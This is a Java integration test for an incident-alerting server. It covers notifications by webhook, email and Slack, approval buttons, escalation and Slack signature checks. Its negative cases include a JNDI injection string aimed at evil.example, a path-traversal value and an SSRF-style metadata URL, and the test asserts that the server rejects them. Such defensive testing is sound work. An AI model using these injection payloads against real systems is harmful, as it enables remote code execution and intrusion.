package io.firewatch.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.sun.net.httpserver.HttpServer;
import io.firewatch.integrations.slack.SlackSignature;
import io.firewatch.remediation.execution.AllowList;
import io.firewatch.remediation.execution.Executors;
import io.firewatch.remediation.execution.GuardedExecutor;
import io.firewatch.remediation.execution.Limits;
import io.firewatch.remediation.execution.mock.Behaviour;
import io.firewatch.remediation.execution.mock.Behaviour.Ending;
import io.firewatch.remediation.execution.mock.MockPlatform;
import io.firewatch.server.security.Accounts;
import io.firewatch.server.security.Role;
import io.firewatch.server.testing.Http;
import io.firewatch.server.testing.Scene;
import io.firewatch.server.testing.SlackStub;
import io.firewatch.server.wiring.PlatformWiring;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Primary;
import org.springframework.context.support.GenericApplicationContext;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** From an alert to what people are told of it until its end, with everything real between. */
final class NotificationIT {
  private static final String ADMIN_KEY = "the-admin-key";
  private static final String SECRET = "slack-signing-secret";
  private static final Duration PATIENCE = Duration.ofSeconds(40);
  private static final List<String> SERVICES = List.of("mended-api", "hopeless-api", "clicked-api");
  private static final List<Told> TOLD = new CopyOnWriteArrayList<>();
  private static final GreenMail MAIL = new GreenMail(ServerSetup.SMTP.dynamicPort());
  private static final MockPlatform PLATFORM = new MockPlatform(latency -> {});

  private static final String DIRECTORY =
      """
      people:
        - {id: ann, name: Ann, slack_id: UANN}
        - {id: vic, name: Vic, slack_id: UVIC}
        - {id: ghost, name: Somebody without an account, slack_id: UGHOST}
      severities:
        critical: {tell: [on_call, team, management]}
        high: {tell: [on_call, team]}
      otherwise:
        on_call: {}
        team: {slack: default}
        management: {}
        everything: {webhook: default, stdout: default}
      """;

  @TempDir static Path home = Path.of("");

  private static ConfigurableApplicationContext server = new GenericApplicationContext();
  private static Http http = Http.admin(0);
  private static Scene scene = new Scene(http);
  private static List<SlackStub> slack = List.of();

  /** What the webhook was sent. */
  private record Told(Instant at, String id, JsonNode body) {
    String kind() {
      return body.path("message").path("head").path("kind").asString();
    }

    String incident() {
      return body.path("incident_id").asString();
    }
  }

  /** Acts on targets of this test. */
  static class TestBeans {
    @Bean
    @Primary
    Executors testExecutors() {
      return new Executors(
          List.of(new GuardedExecutor(PLATFORM, new Limits(AllowList.of(SERVICES), false))));
    }
  }

  @BeforeAll
  static void startServer() throws IOException {
    MAIL.start();
    slack = List.of(new SlackStub());
    StringBuilder catalogue = new StringBuilder("services:\n");
    SERVICES.forEach(service -> catalogue.append(Scene.mocked(service)));
    Files.writeString(home.resolve("catalogue.yaml"), catalogue);
    Files.writeString(home.resolve("directory.yaml"), DIRECTORY);
    server =
        new SpringApplicationBuilder(FirewatchServer.class, PlatformWiring.class, TestBeans.class)
            .run(
                "--firewatch.home=" + home,
                "--firewatch.admin-key=" + ADMIN_KEY,
                "--firewatch.http.port=0",
                "--firewatch.resolution.interval=1s",
                "--firewatch.remediation.watch.interval=300ms",
                "--firewatch.remediation.watch.within=2m",
                "--firewatch.notification.per-minute=500",
                "--firewatch.notification.email.host=127.0.0.1",
                "--firewatch.notification.email.port=" + MAIL.getSmtp().getPort(),
                "--firewatch.notification.email.on-call=on-call@example.org",
                "--firewatch.notification.email.team=team@example.org",
                "--firewatch.notification.email.management=boss@example.org",
                "--firewatch.notification.slack-app.api=" + slack.getFirst().url(),
                "--firewatch.notification.slack-app.token=xoxb-test",
                "--firewatch.notification.slack-app.room=#incidents",
                "--firewatch.notification.slack-app.signing-secret=" + SECRET,
                "--firewatch.notification.webhook.url=http://127.0.0.1:" + webhook(),
                "--firewatch.notification.webhook.secret="
                    + "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=");
    http = new Http(URI.create(FirewatchServer.url(server)).getPort(), ADMIN_KEY);
    scene = new Scene(http);
    Accounts accounts = server.getBean(Accounts.class);
    accounts.create(new Accounts.User("ann", "{noop}x", Role.APPROVER));
    accounts.create(new Accounts.User("vic", "{noop}x", Role.VIEWER));
  }

  /** The first try of each but the very first fails, so that it takes another to arrive. */
  private static int webhook() throws IOException {
    HttpServer receiver =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    receiver.createContext(
        "/",
        exchange -> {
          String body =
              new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
          Told told =
              new Told(
                  Instant.now(),
                  exchange.getRequestHeaders().getFirst("webhook-id"),
                  JsonMapper.shared().readTree(body));
          boolean isFirst = TOLD.stream().noneMatch(one -> one.id().equals(told.id()));
          TOLD.add(told);
          exchange.sendResponseHeaders(isFirst && TOLD.size() > 1 ? 503 : 200, -1);
          exchange.close();
        });
    receiver.start();
    return receiver.getAddress().getPort();
  }

  @AfterAll
  static void stopServer() {
    server.close();
    MAIL.stop();
    slack.forEach(SlackStub::close);
  }

  @Test
  void the_first_page_waits_for_no_diagnosis_and_every_try_has_the_same_id() throws Exception {
    scene.alert("told-api", "firing", "critical");
    String incident = scene.incident("told-api");
    await().atMost(PATIENCE).until(() -> kinds(incident).contains("INCIDENT_OPENED"));
    assertThat(kinds(incident).getFirst()).isEqualTo("INCIDENT_OPENED");
    http.post("/api/incidents/" + incident + "/resolve", "{\"note\":\"done\"}");
    await()
        .atMost(PATIENCE)
        .until(() -> kinds(incident).stream().filter("INCIDENT_RESOLVED"::equals).count() == 2);
    assertThat(
            of(incident).stream()
                .filter(told -> told.kind().equals("INCIDENT_RESOLVED"))
                .map(Told::id)
                .distinct())
        .hasSize(1);
  }

  @Test
  void what_is_not_severe_is_not_told() throws Exception {
    scene.alert("quiet-api", "firing", "info");
    String quiet = scene.incident("quiet-api");
    scene.alert("loud-api", "firing", "critical");
    String loud = scene.incident("loud-api");
    await().atMost(PATIENCE).until(() -> kinds(loud).contains("INCIDENT_OPENED"));
    assertThat(of(quiet)).isEmpty();
  }

  @Test
  void everything_about_an_incident_is_told_in_order_once_and_to_the_same_people()
      throws Exception {
    String incident = scene.breakIt("mended-api");
    JsonNode approve = question(incident);
    assertThat(approve.path("action_id").asString()).isEqualTo("approve");
    assertThat(click("UANN", "approve", approve.path("value").asString()).statusCode())
        .isEqualTo(200);
    await()
        .atMost(PATIENCE)
        .untilAsserted(() -> assertThat(scene.status(incident)).isEqualTo("VERIFYING"));
    scene.alert("mended-api", "resolved", "critical");
    // Each channel goes its own way, and what it came to another than the postmortem.
    await()
        .atMost(PATIENCE)
        .until(() -> kinds(incident).containsAll(List.of("EXECUTION_RESULT", "POSTMORTEM_READY")));
    await()
        .atMost(PATIENCE)
        .untilAsserted(() ->
            assertThat(mailed("on-call@example.org", incident))
                .contains("execution_result", "postmortem_ready"));
    await()
        .atMost(PATIENCE)
        .untilAsserted(() ->
            assertThat(mailed("boss@example.org", incident))
                .containsExactlyInAnyOrder(
                    "incident_opened", "incident_resolved", "postmortem_ready"));
    assertThat(mailed("team@example.org", incident))
        .as("the owner of the service")
        .contains("incident_opened", "rca_available", "remediation_plan");
    assertThat(http.get("/api/incidents/" + incident + "/postmortem").body())
        .contains("done: ")
        .doesNotContain("in doubt: ");

    List<String> told = kinds(incident).stream().distinct().toList();
    assertThat(told)
        .containsSubsequence(
            "INCIDENT_OPENED",
            "RCA_AVAILABLE",
            "REMEDIATION_PLAN",
            "APPROVAL_NEEDED",
            "APPROVAL_ANSWERED")
        .contains("INCIDENT_RESOLVED");
    assertThat(told.indexOf("POSTMORTEM_READY")).isGreaterThan(told.indexOf("INCIDENT_RESOLVED"));
    assertThat(mailed("on-call@example.org", incident))
        .doesNotHaveDuplicates()
        .containsSubsequence(
            "incident_opened", "rca_available", "remediation_plan", "approval_needed")
        .contains("approval_answered", "incident_resolved");
    assertThat(approvedBy(approve)).isEqualTo("user:ann");
    await().atMost(PATIENCE).untilAsserted(() -> assertOneThread(incident));
    await()
        .atMost(PATIENCE)
        .untilAsserted(() ->
            assertThat(http.get("/api/incidents/" + incident).body())
                .contains("EMAIL_SENT_INCIDENT_OPENED", "EMAIL_SENT_POSTMORTEM_READY"));
  }

  /** One message in the room, kept up to date; the rest in its thread; the buttons are gone. */
  private static void assertOneThread(String incident) {
    List<SlackStub.Call> posts =
        slack.getFirst().calls("chat.postMessage").stream()
            .filter(call -> call.body().toString().contains(incident))
            .toList();
    assertThat(posts.getFirst().body().path("channel").asString()).isEqualTo("#incidents");
    assertThat(posts.getFirst().body().has("thread_ts")).isFalse();
    assertThat(posts.subList(1, posts.size()))
        .allMatch(call -> call.body().path("thread_ts").asString().equals(posts.getFirst().ts()))
        .allMatch(call -> call.authorization().equals("Bearer xoxb-test"));
    SlackStub.Call asked =
        posts.stream().filter(c -> c.body().toString().contains("\"approve\"")).findFirst().get();
    List<SlackStub.Call> updates = slack.getFirst().calls("chat.update");
    assertThat(updates)
        .anyMatch(c ->
            c.body().path("ts").asString().equals(posts.getFirst().ts())
                && c.body().toString().contains("Resolved"));
    assertThat(updates)
        .anyMatch(c ->
            c.body().path("ts").asString().equals(asked.ts())
                && c.body().toString().contains("Approved by ann"))
        .noneMatch(c ->
            c.body().path("ts").asString().equals(asked.ts())
                && c.body().toString().contains("\"action_id\""));
  }

  @Test
  void a_plan_that_fails_calls_a_person() throws Exception {
    PLATFORM.nextActs(
        "hopeless-api",
        Behaviour.of(Ending.FAILS),
        Behaviour.of(Ending.MAKES_IT_WORSE),
        Behaviour.of(Ending.SUCCEEDS_IN_PART));
    String incident = scene.breakIt("hopeless-api");
    for (int round = 1; round <= 3; round++) {
      String value = question(incident).path("value").asString();
      assertThat(click("UANN", "approve", value).statusCode()).isEqualTo(200);
      await()
          .atMost(PATIENCE)
          .until(() -> !approval(value).path("state").asString().equals("WAITING"));
      await()
          .atMost(Duration.ofSeconds(90))
          .until(() ->
              scene.status(incident).equals("FAILED")
                  || waiting(incident).filter(one -> !one.equals(value)).isPresent());
    }
    await().atMost(PATIENCE).until(() -> kinds(incident).contains("ESCALATION"));
    Told escalation =
        of(incident).stream().filter(t -> t.kind().equals("ESCALATION")).findFirst().orElseThrow();
    assertThat(escalation.body().toString()).contains("A person has to go on");
    await()
        .atMost(PATIENCE)
        .untilAsserted(
            () -> assertThat(mailed("on-call@example.org", incident)).contains("escalation"));
  }

  @Test
  void only_the_right_click_counts_and_the_wrong_ones_are_audited() throws Exception {
    String incident = scene.breakIt("clicked-api");
    String value = question(incident).path("value").asString();
    String body = body("UANN", "approve", value);
    String now = String.valueOf(Instant.now().getEpochSecond());
    String old = String.valueOf(Instant.now().minusSeconds(301).getEpochSecond());
    SlackSignature right = new SlackSignature(SECRET);
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);

    assertThat(send(body, now, "").statusCode()).isEqualTo(401);
    assertThat(send(body, now, new SlackSignature("wrong").sign(now, bytes)).statusCode())
        .isEqualTo(401);
    assertThat(send(body, old, right.sign(old, bytes)).statusCode()).isEqualTo(401);
    assertThat(send(body + "&x=1", now, right.sign(now, bytes)).statusCode()).isEqualTo(401);
    // Signed, but none that we ask for.
    for (String other :
        List.of(
            "payload=%7B",
            "payload=",
            "",
            "payload=" + encoded("[]"),
            body("UANN", "approve", "x"),
            body("UANN", "approve", value.replace(':', ';')),
            body("UANN", "delete", value),
            body("UANN", "acknowledge", value),
            body("UANN", "acknowledge", "../" + incident),
            body("UANN", "approve", incident),
            body("<@UANN>", "approve", value),
            body("UANN", "approve", "${jndi:ldap://evil.example/a}"))) {
      String signed = right.sign(now, other.getBytes(StandardCharsets.UTF_8));
      assertThat(send(other, now, signed).statusCode()).as(other).isEqualTo(400);
    }
    // Who looks after it, once, and only whose account may.
    assertThat(click("UVIC", "acknowledge", incident).statusCode()).isEqualTo(200);
    assertThat(lookedAfterBy(incident)).isEmpty();
    assertThat(click("UANN", "acknowledge", incident).statusCode()).isEqualTo(200);
    assertThat(lookedAfterBy(incident)).isEqualTo("user:ann");
    await()
        .atMost(PATIENCE)
        .untilAsserted(() -> {
          SlackStub.Call last =
              slack.getFirst().calls("chat.update").stream()
                  .filter(c -> c.body().toString().contains(incident))
                  .reduce((one, next) -> next)
                  .orElseThrow();
          assertThat(last.body().toString())
              .contains("ann looks after it")
              .doesNotContain("\"acknowledge\"");
        });
    // Understood, but not allowed, or for another plan.
    for (String user : List.of("USTRANGER", "UVIC", "UGHOST")) {
      assertThat(click(user, "approve", value).statusCode()).isEqualTo(200);
      await()
          .atMost(PATIENCE)
          .untilAsserted(() ->
              assertThat(slack.getFirst().calls("chat.postEphemeral"))
                  .anyMatch(c ->
                      c.body().path("user").asString().equals(user)
                          && c.body().path("text").asString().contains("Nothing was done")));
    }
    assertThat(click("UANN", "approve", value.substring(0, 37) + "0".repeat(64)).statusCode())
        .isEqualTo(200);
    assertThat(approval(value).path("state").asString()).isEqualTo("WAITING");
    assertThat(PLATFORM.mutations("clicked-api")).isZero();

    assertThat(send(body, now, right.sign(now, bytes)).statusCode()).isEqualTo(200);
    assertThat(send(body, now, right.sign(now, bytes)).statusCode()).as("replay").isEqualTo(401);
    await().atMost(PATIENCE).until(() -> PLATFORM.mutations("clicked-api") == 1);
    await()
        .atMost(PATIENCE)
        .untilAsserted(() -> {
          String audit = http.get("/api/audit?limit=200").body();
          assertThat(audit)
              .contains("slack:USTRANGER", "user:vic", "OTHER_PLAN")
              .contains("/slack/actions unsigned", "/slack/actions stale")
              .contains("/slack/actions forged", "/slack/actions replayed");
          assertThat(Http.json(http.get("/api/audit/verify")).path("sound").asBoolean()).isTrue();
        });
  }

  // What is done to the server.

  private static HttpResponse<String> click(String user, String action, String value)
      throws Exception {
    String body = body(user, action, value);
    String now = String.valueOf(Instant.now().getEpochSecond());
    return send(
        body, now, new SlackSignature(SECRET).sign(now, body.getBytes(StandardCharsets.UTF_8)));
  }

  private static String body(String user, String action, String value) {
    String payload =
        """
        {"type":"block_actions","user":{"id":"%s"},"channel":{"id":"C1"},\
        "response_url":"http://169.254.169.254/","actions":[{"action_id":"%s","value":"%s"}]}\
        """
            .formatted(user, action, value);
    return "payload=" + encoded(payload);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static HttpResponse<String> send(String body, String timestamp, String signature)
      throws Exception {
    HttpRequest request =
        HttpRequest.newBuilder(URI.create(FirewatchServer.url(server) + "/slack/actions"))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .header("X-Slack-Request-Timestamp", timestamp)
            .header("X-Slack-Signature", signature)
            .POST(BodyPublishers.ofString(body))
            .build();
    try (HttpClient client = HttpClient.newHttpClient()) {
      return client.send(request, BodyHandlers.ofString());
    }
  }

  // What came of it.

  private static String lookedAfterBy(String incident) throws Exception {
    return Http.json(http.get("/api/incidents/" + incident))
        .path("acknowledgement")
        .path("by")
        .asString("");
  }

  private static JsonNode approval(String value) throws Exception {
    return Http.json(http.get("/api/approvals/" + value.substring(0, 36)));
  }

  private static String approvedBy(JsonNode button) throws Exception {
    return approval(button.path("value").asString()).path("votes").get(0).path("by").asString();
  }

  /** What the buttons of the question that waits say, as far as there is one. */
  private static Optional<String> waiting(String incident) throws Exception {
    for (JsonNode item : Http.json(http.get("/api/approvals")).path("items")) {
      if (item.path("incident_id").asString().equals(incident)) {
        return Optional.of(item.path("id").asString() + ":" + item.path("plan_hash").asString());
      }
    }
    return Optional.empty();
  }

  /** The Approve button in Slack of the question that waits. */
  private static JsonNode question(String incident) {
    List<JsonNode> found = new ArrayList<>();
    await()
        .atMost(PATIENCE)
        .untilAsserted(() -> {
          String value = waiting(incident).orElse("none yet");
          found.clear();
          for (SlackStub.Call call : slack.getFirst().calls("chat.postMessage")) {
            call.body()
                .findParents("action_id")
                .forEach(button -> {
                  if (button.path("value").asString().equals(value)) {
                    found.add(button);
                  }
                });
          }
          assertThat(found).hasSize(2);
        });
    return found.getFirst();
  }

  private static List<Told> of(String incident) {
    return TOLD.stream().filter(told -> told.incident().equals(incident)).toList();
  }

  private static List<String> kinds(String incident) {
    return of(incident).stream().map(Told::kind).toList();
  }

  private static List<String> mailed(String address, String incident) throws Exception {
    List<String> kinds = new ArrayList<>();
    for (MimeMessage mail : mails(address, incident)) {
      kinds.add(mail.getHeader("X-Firewatch-Kind", null));
    }
    return kinds;
  }

  private static List<MimeMessage> mails(String address, String incident) throws Exception {
    List<MimeMessage> found = new ArrayList<>();
    for (MimeMessage mail : MAIL.getReceivedMessages()) {
      if (incident.equals(mail.getHeader("X-Firewatch-Incident", null))
          && Stream.of(mail.getAllRecipients()).anyMatch(to -> to.toString().equals(address))) {
        found.add(mail);
      }
    }
    return found;
  }
}
